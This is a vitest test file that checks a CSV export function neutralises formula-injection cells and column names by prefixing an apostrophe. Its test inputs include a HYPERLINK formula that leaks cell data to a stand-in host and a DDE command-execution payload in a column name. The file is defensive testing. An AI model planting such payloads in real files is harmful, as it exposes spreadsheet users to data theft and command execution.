import * as aq from 'arquero';
import { describe, expect, test } from 'vitest';
import { spreadsheetCsv, spreadsheetSafe } from '../../src/ui/table-data.ts';

/** Issue 14.6: a CSV download never hands a spreadsheet a formula to run. */
describe('CSV downloads neutralise formula cells', () => {
  test("every text cell that starts like a formula gets a leading ', numbers stay numbers", () => {
    const table = aq.table({
      note: ['=HYPERLINK("http://evil.test/?d="&A2,"click")', '+1+2', '-2+3', '@SUM(A1)', '\tlead', '\r=1', '＝1', 'plain', 'a, "quoted"', null],
      amount: [-5, 1.5, 0, 3, 4, 5, 6, 7, 8, 9],
    });
    expect(spreadsheetCsv(table)).toBe([
      'note,amount',
      `"'=HYPERLINK(""http://evil.test/?d=""&A2,""click"")",-5`,
      "'+1+2,1.5",
      "'-2+3,0",
      "'@SUM(A1),3",
      "'\tlead,4",
      `"'\r=1",5`,
      "'＝1,6",
      'plain,7',
      '"a, ""quoted""",8',
      ',9',
      '',
    ].join('\n'));
  });

  test('column names are neutralised too', () => {
    expect(spreadsheetCsv(aq.table({ '=cmd|"/c calc"!A0': ['x'] })).split('\n')[0]).toBe(`"'=cmd|""/c calc""!A0"`);
    expect(spreadsheetSafe(-1)).toBe(-1);
  });
});
